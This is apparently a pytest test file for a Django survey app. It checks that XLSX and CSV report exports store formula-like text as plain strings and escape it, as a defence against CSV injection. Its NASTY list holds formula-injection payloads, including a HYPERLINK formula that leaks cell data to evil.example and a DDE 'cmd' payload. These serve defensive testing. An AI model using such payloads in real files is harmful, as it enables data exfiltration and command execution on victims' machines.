"""Text is exported as text, never as a formula (DESIGN §6.2).

Notes, product and department names and round labels that begin with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return are string cells in the workbook (no ``<f>``
element anywhere) and carry a leading ``'`` in the CSV (OWASP); the CSV starts with a
byte order mark so that Excel reads its Japanese.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from python_calamine import CalamineWorkbook

from reports.exports.workbook import SHEETS
from surveys.models import Answer
from tests import factories

pytestmark = pytest.mark.django_db
NASTY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def nasty(org: Any) -> dict[str, Any]:
    """Formula-like notes on p4's answers of 2022-04, names and a label beginning with
    ``=``; and Japanese, which the CSV must carry."""
    keys = [f"{area}.i{n}" for area in ("data", "model") for n in (1, 2, 3)]
    notes = dict(zip(keys, NASTY, strict=False))
    for key, note in notes.items():
        Answer.objects.filter(
            assessment__product__slug="p4", assessment__round__label="2022-04", item__key=key
        ).update(note=note)
    org.products["p4"].name = "=1+2"
    org.products["p4"].save()
    org.departments["search"].name = "=Search+1"
    org.departments["search"].save()
    org.rounds["2022-04"].label = "=2022-04"
    org.rounds["2022-04"].save()
    Answer.objects.filter(
        assessment__product__slug="p6", assessment__round__label="=2022-04", item__key="data.i1"
    ).update(note="日本語のメモ")
    return notes


def test_the_workbook_holds_no_formula(org: Any, nasty: dict[str, Any], tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    call_command(
        "export_report",
        *("--questionnaire", "mlts", "--format", "xlsx", "--answers-round", "=2022-04"),
        *("-o", str(path)),
    )
    with zipfile.ZipFile(path) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(SHEETS)  # Summary … Products, Initiatives, Reviews, Answers
        for name in sheets:
            assert not re.search(rb"<f[\s>/]", zf.read(name)), name
    workbook = openpyxl.load_workbook(path)  # formulas would come back as data_type "f"
    cells = [cell for ws in workbook for row in ws.iter_rows() for cell in row]
    starting = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert starting and all(c.data_type == "s" for c in starting)
    # and the text is as it was typed (calamine decodes the _x000D_ escape of a CR)
    with CalamineWorkbook.from_path(str(path)) as book:
        rows = list(book.get_sheet_by_name("Answers").iter_rows())
        products = list(book.get_sheet_by_name("Products").iter_rows())
        departments = list(book.get_sheet_by_name("Departments").iter_rows())
    p4 = [r for r in rows if r[2] == "p4"]
    assert [r[7] for r in p4] == NASTY[:6]
    assert {r[0] for r in rows[1:]} == {"=2022-04"}
    assert {r[3] for r in p4} == {"=Search+1"}
    assert "=1+2" in {r[1] for r in products}
    assert "=Search+1" in {r[1] for r in departments}


def test_the_csv_escapes_formulas_and_reads_in_excel(org: Any, nasty: dict[str, Any]) -> None:
    client = Client()
    client.force_login(factories.manager_user(username="manager"))
    content = b"".join(client.get("/reports/answers.csv").streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    p4 = [r for r in rows if r[2] == "p4" and r[0] == "'=2022-04"]
    assert [r[7] for r in p4] == ["'" + note for note in NASTY[:6]]
    assert {r[3] for r in p4} == {"'=Search+1"}
    assert any(r[7] == "日本語のメモ" for r in rows)
